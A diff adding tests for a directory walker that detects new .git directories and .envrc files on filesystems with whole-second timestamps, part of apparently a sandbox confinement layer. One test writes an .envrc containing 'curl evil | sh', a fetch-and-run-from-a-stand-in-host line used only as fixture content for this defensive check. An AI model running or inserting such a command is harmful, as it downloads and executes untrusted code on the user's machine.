@@ -4,9 +4,10 @@
 // changes deterministic; the walks themselves run on real directories.
 import test from 'ava';
 import fc from 'fast-check';
-import { spawnSync } from 'node:child_process';
+import { execFileSync, spawnSync } from 'node:child_process';
 import { chmodSync, chownSync, lstatSync, mkdirSync, readdirSync, realpathSync, renameSync, rmSync, writeFileSync, type Dirent } from 'node:fs';
 import path from 'node:path';
+import { DirectoryWatch } from '../../../../src/host/executors/confine/directory-watch.js';
 import { isShapedLikeGitDirectory } from '../../../../src/host/executors/confine/git-inventory.js';
 import { ScopeWalker, TIMESTAMP_SLACK_MS, type ScopeWalk, type ScopeWalkSeams } from '../../../../src/host/executors/confine/scope-walk.js';
 import { isGitDirectoryName } from '../../../../src/policy/git-control.js';
@@ -103,6 +104,25 @@ test('a .git made right after a listing on the real clock is found by the next w
   });
   walker.walk({ roots: [ws] });
   t.deepEqual(found(walker.walk({ roots: [ws] })).git, [path.join(target, '.git')]);
+});
+
+test('a .git made later in the same whole second as a listing taken half a second after the last change is found by the next walk', (t) => {
+  // A clock that keeps whole seconds (ext2, ext3, an ext4 with 128-byte inodes): every change in the second of T reads T.
+  const ws = workspace(t);
+  const target = path.join(ws, 'a');
+  mkdirSync(target);
+  const walker = gitWalker({ clock: { now: () => T + 500, timestamp: () => T } });
+  t.deepEqual(found(walker.walk({ roots: [ws] })).git, []);
+  mkdirSync(path.join(target, '.git'));
+  t.deepEqual(found(walker.walk({ roots: [ws] })).git, [path.join(target, '.git')]);
+});
+
+test('a listing taken after the whole second of the last change has ended is reused on a clock that keeps whole seconds', (t) => {
+  const ws = workspace(t);
+  mkdirSync(path.join(ws, 'a'));
+  const walker = gitWalker({ clock: { now: () => T + 1000 + TIMESTAMP_SLACK_MS + 1, timestamp: () => T } });
+  walker.walk({ roots: [ws] });
+  t.deepEqual({ listed: walker.walk({ roots: [ws] }).listed }, { listed: 0 });
 });
 
 test('a listing older than the clock slack is reused even when the filesystem clock is coarse', (t) => {
@@ -277,4 +297,41 @@ test('property: after any changes, the cached walk finds exactly what an uncache
     { numRuns: 150 },
   );
   t.pass();
+});
+
+test('an .envrc created in the same second as the last listing is found on a real ext4 that keeps whole seconds, with no watch', (t) => {
+  const root = tempDir(t, 'zb-ext4-');
+  const image = path.join(root, 'small.img');
+  const mount = path.join(root, 'mnt');
+  mkdirSync(mount);
+  execFileSync('truncate', ['-s', '64M', image]);
+  // 128-byte inodes (mke2fs's default below 512 MB): no room for the sub-second part of a timestamp.
+  execFileSync('mkfs.ext4', ['-q', '-F', '-I', '128', image], { stdio: 'ignore' });
+  execFileSync('mount', ['-o', 'loop', image, mount]);
+  t.teardown(() => execFileSync('umount', [mount]));
+  t.is(lstatSync(mount).ctimeMs % 1000, 0, 'the filesystem keeps whole seconds');
+  for (let attempt = 0; attempt < 10; attempt++) {
+    const directory = path.join(mount, `d${attempt}`);
+    mkdirSync(directory);
+    const made = lstatSync(directory, { bigint: true });
+    // The user's watch limit is reached (directory-watch.ts falls back to stat); the listing counts as taken half a
+    // second after the directory's last change, on the filesystem's own timestamps.
+    const madeMs = Number(made.ctimeNs / 1_000_000n);
+    const walker = new ScopeWalker(
+      { entries: { envrc: (entry) => entry.name === '.envrc' }, directories: {} },
+      { clock: { now: () => madeMs + 500, timestamp: (ms) => ms } },
+      new DirectoryWatch({ addWatch: () => ({ code: 'ENOSPC' }) }),
+    );
+    walker.walk({ roots: [mount] });
+    writeFileSync(path.join(directory, '.envrc'), 'curl evil | sh\n');
+    const after = lstatSync(directory, { bigint: true });
+    // The precondition, read on the real filesystem: the change kept the directory's times (no second boundary passed).
+    if (after.ctimeNs !== made.ctimeNs || after.mtimeNs !== made.mtimeNs) continue;
+    t.deepEqual(
+      walker.walk({ roots: [mount] }).entries.envrc.map((entry) => entry.path),
+      [path.join(directory, '.envrc')],
+    );
+    return;
+  }
+  t.fail('every attempt crossed a second boundary between the mkdir and the write');
 });
